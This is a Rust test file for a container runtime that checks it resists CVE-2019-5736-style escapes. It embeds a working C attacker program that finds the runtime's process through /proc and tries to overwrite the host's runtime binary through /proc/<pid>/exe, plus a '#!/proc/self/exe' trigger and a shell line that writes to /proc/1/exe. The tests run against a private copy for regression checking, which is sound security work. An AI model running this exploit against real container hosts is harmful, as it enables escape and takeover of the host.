//! Hostile containers against the runtime's own binary (CVE-2019-5736 class).
//!
//! The image holds `/evil-*` whose first line is `#!/proc/self/exe`: when it is executed,
//! the kernel runs whatever binary the executing process came from, inside the container.
//! For `exec` (and for init at `start`) that process is a clone of the runtime, so the
//! runtime's binary runs in the container as a dumpable process. A static attacker program
//! in the container waits for it, opens its `/proc/<pid>/exe`, and once the binary is no
//! longer running reopens that handle for writing. Each test runs a private copy of the
//! runtime under test, so a failing test damages only the copy, and checks that the copy is
//! unchanged and that the attacker did get the handle (else the test proves nothing).

mod common;

use common::*;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::sync::OnceLock;
use std::time::Duration;

/// The attacker: `attacker REPORT EVIL` waits (30 s at most) for a process whose command
/// line is `/proc/self/exe EVIL`, opens its exe, and tries to overwrite it; every step is
/// appended to REPORT.
const ATTACKER_C: &str = r##"
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static int report;

static void say(const char *fmt, ...) {
    char b[512];
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(b, sizeof b, fmt, ap);
    va_end(ap);
    if (n > 0) write(report, b, n < (int)sizeof b ? n : (int)sizeof b - 1);
}

static int attack(const char *pid) {
    char p[64], link[256];
    snprintf(p, sizeof p, "/proc/%s/exe", pid);
    int fd = open(p, O_PATH);
    if (fd < 0) {
        say("found pid %s; open exe: %s\n", pid, strerror(errno));
        return 0;
    }
    ssize_t n = readlink(p, link, sizeof link - 1);
    link[n > 0 ? n : 0] = 0;
    say("found pid %s; got exe %s\n", pid, link);
    snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
    for (int i = 0; i < 20000; i++) {
        int w = open(p, O_WRONLY);
        if (w < 0) {
            if (errno == ETXTBSY) { usleep(500); continue; }
            say("open for writing: %s\n", strerror(errno));
            return 1;
        }
        if (write(w, "#!/bin/sh\necho PWNED\n", 21) == 21) {
            say("OVERWRITTEN\n");
            return 1;
        }
        say("write: %s\n", strerror(errno));
        return 1;
    }
    say("still busy\n");
    return 1;
}

int main(int argc, char **argv) {
    if (argc < 3) return 2;
    report = open(argv[1], O_WRONLY | O_CREAT | O_APPEND, 0644);
    if (report < 0) return 2;
    say("waiting for %s\n", argv[2]);
    time_t end = time(0) + 30;
    while (time(0) < end) {
        DIR *d = opendir("/proc");
        if (!d) { say("opendir /proc: %s\n", strerror(errno)); return 2; }
        struct dirent *e;
        while ((e = readdir(d))) {
            if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
            char p[64], buf[512];
            snprintf(p, sizeof p, "/proc/%s/cmdline", e->d_name);
            int c = open(p, O_RDONLY);
            if (c < 0) continue;
            ssize_t n = read(c, buf, sizeof buf - 1);
            close(c);
            if (n <= 0) continue;
            buf[n] = 0;
            size_t l = strlen(buf);
            if (strcmp(buf, "/proc/self/exe") != 0 || (ssize_t)l + 1 >= n) continue;
            if (strcmp(buf + l + 1, argv[2]) != 0) continue;
            if (attack(e->d_name)) return 0;
        }
        closedir(d);
    }
    say("timeout\n");
    return 0;
}
"##;

/// The attacker, built once per test binary as a static executable.
fn attacker() -> &'static Path {
    static BUILT: OnceLock<PathBuf> = OnceLock::new();
    BUILT.get_or_init(|| build_static_c("attacker", ATTACKER_C))
}

/// A private copy of the runtime under test (same file name, so `is_runc` still holds),
/// which the harness runs from now on; returns it with its original bytes.
fn runtime_copy(h: &Harness) -> (PathBuf, Vec<u8>) {
    let orig = runtime();
    let dir = h.dir("runtime-copy");
    let copy = dir.join(orig.file_name().expect("runtime file name"));
    fs::copy(&orig, &copy).expect("copy the runtime");
    fs::set_permissions(&copy, fs::Permissions::from_mode(0o755)).expect("chmod copy");
    let bytes = fs::read(&copy).expect("read copy");
    h.use_runtime(&copy);
    (copy, bytes)
}

/// Puts the attacker and `/EVIL` (`#!/proc/self/exe`) into the bundle's rootfs.
fn arm(bundle: &Path, evil: &str) {
    let rootfs = bundle.join("rootfs");
    fs::copy(attacker(), rootfs.join("attacker")).expect("copy attacker into rootfs");
    let e = rootfs.join(evil.trim_start_matches('/'));
    fs::write(&e, "#!/proc/self/exe\n").expect("write evil script");
    fs::set_permissions(&e, fs::Permissions::from_mode(0o755)).expect("chmod evil");
}

fn read_report(bundle: &Path) -> String {
    fs::read_to_string(bundle.join("rootfs/report")).unwrap_or_default()
}

/// The attack has ended (one way or the other).
fn finished(report: &str) -> bool {
    [
        "open for writing",
        "write:",
        "OVERWRITTEN",
        "still busy",
        "timeout",
    ]
    .iter()
    .any(|w| report.contains(w))
}

/// `last`: the runtime's output for the last start or exec of `/evil`.
fn assert_survived(copy: &Path, original: &[u8], report: &str, last: Option<Output>) {
    let now = fs::read(copy).expect("read the runtime copy");
    if now != original {
        // The harness deletes the test's containers with this copy when it drops: put the
        // runtime back first, or a failing run also leaves their cgroups behind.
        fs::write(copy, original).expect("restore the runtime copy");
    }
    assert!(
        now == original && !report.contains("OVERWRITTEN"),
        "the container overwrote the host's runtime binary {}:\n{report}",
        copy.display()
    );
    // runc 1.1.5 stops the attack a step earlier: its binary cannot even be executed
    // through /proc/self/exe inside the container (execve fails with ENOENT; at `start`
    // that error goes to the container's stderr, not to `start`'s).
    if is_runc() && !report.contains("found pid") {
        let last = last.map(|o| o.to_string()).unwrap_or_default();
        eprintln!("runc: /evil never ran runc's binary; last: {last}");
        return;
    }
    assert!(
        report.contains("; got exe "),
        "the attacker never got a handle on the runtime's binary, so this run proves \
         nothing:\n{report}"
    );
    // The protection, not a race we happened to win, stopped it.
    assert!(
        report.contains("Read-only file system") || report.contains("Operation not permitted"),
        "{report}"
    );
}

/// Starts a container whose main process is the attacker waiting for `/proc/self/exe EVIL`;
/// returns its bundle (the report is `rootfs/report`) and id.
fn start_attacker(h: &Harness, evil: &str) -> (PathBuf, String) {
    let spec = Spec::new()
        .args(&["/attacker", "/report", evil])
        .set("/root/readonly", serde_json::json!(false));
    let bundle = h.bundle(&spec);
    arm(&bundle, evil);
    let id = h.new_id();
    h.rt(&["create", "--bundle", path_str(&bundle), &id])
        .expect_ok();
    h.rt(&["start", &id]).expect_ok();
    assert!(
        wait_until(STATE_TIMEOUT, || read_report(&bundle).contains("waiting")),
        "attacker did not start: {}",
        read_report(&bundle)
    );
    (bundle, id)
}

/// Runs `/evil` (through `run_evil`, up to `tries` times) until the attacker in `bundle`
/// reports that it found the runtime's binary running, then waits for the attack to end;
/// returns the runtime's output of the last run.
fn attack(bundle: &Path, tries: usize, mut run_evil: impl FnMut() -> Output) -> Option<Output> {
    let mut last = None;
    for _ in 0..tries {
        last = Some(run_evil());
        if wait_until(Duration::from_millis(300), || {
            read_report(bundle).contains("found pid")
        }) {
            break;
        }
    }
    wait_until(Duration::from_secs(20), || finished(&read_report(bundle)));
    last
}

fn evil_name(h: &Harness) -> String {
    format!("/evil-{}", h.marker())
}

/// `exec ID /evil`: the exec'd process is a clone of the runtime until its execve.
#[test]
fn exec_cannot_overwrite_runtime_binary() {
    let h = Harness::new("exe_exec");
    let (copy, original) = runtime_copy(&h);
    let evil = evil_name(&h);
    let (bundle, id) = start_attacker(&h, &evil);
    // Fails (the runtime binary does not know the command /evil-*): that is fine, what
    // matters is that it ran inside the container.
    let last = attack(&bundle, 20, || h.rt(&["exec", &id, &evil]));
    assert_survived(&copy, &original, &read_report(&bundle), last);
}

/// `start`: init is a clone of `create`'s runtime process until it execs the user program,
/// here `/evil`. The evil container joins the pid namespace of the attacker's container (as
/// in a pod), so the attacker sees it and outlives it.
#[test]
fn start_cannot_overwrite_runtime_binary() {
    let h = Harness::new("exe_start");
    let (copy, original) = runtime_copy(&h);
    let evil = evil_name(&h);
    let (bundle, id) = start_attacker(&h, &evil);
    let pidns = format!("/proc/{}/ns/pid", h.pid(&id));
    let evil_spec = Spec::new().args(&[&evil]).namespace("pid", Some(&pidns));
    // As many tries as the exec attack: each evil process lives ~1 ms, and on a loaded
    // machine the attacker is not always on a CPU then.
    let last = attack(&bundle, 20, || {
        let evil_bundle = h.bundle(&evil_spec);
        arm(&evil_bundle, &evil);
        let evil_id = h.new_id();
        h.rt(&["create", "--bundle", path_str(&evil_bundle), &evil_id])
            .expect_ok();
        h.rt(&["start", &evil_id])
    });
    assert_survived(&copy, &original, &read_report(&bundle), last);
}

/// Before `start`, init still runs the runtime's binary inside the container: a process
/// exec'd next to it must not get a handle on that binary (init is non-dumpable).
#[test]
fn created_init_exe_is_out_of_reach() {
    let h = Harness::new("exe_created");
    let (copy, original) = runtime_copy(&h);
    let spec = Spec::new().args(&["true"]);
    let ctr = h.create(&spec);
    let out = h.rt(&[
        "exec",
        &ctr.id,
        "sh",
        "-c",
        "readlink /proc/1/exe; cat /proc/1/exe > /dev/null && echo READ; \
         echo x >> /proc/1/exe && echo WROTE",
    ]);
    assert!(
        !out.stdout.contains("WROTE"),
        "a container process wrote init's binary:\n{out}"
    );
    // runc leaves its init dumpable (its binary there is a sealed copy); ongi's init is
    // also non-dumpable while it runs our code in the container.
    if !skip_on_runc("runc's init is dumpable in the created state") {
        assert!(
            !out.stdout.contains("READ") && out.stderr.contains("ermission denied"),
            "expected permission denied on /proc/1/exe:\n{out}"
        );
    }
    assert_eq!(fs::read(&copy).expect("read copy"), original);
}
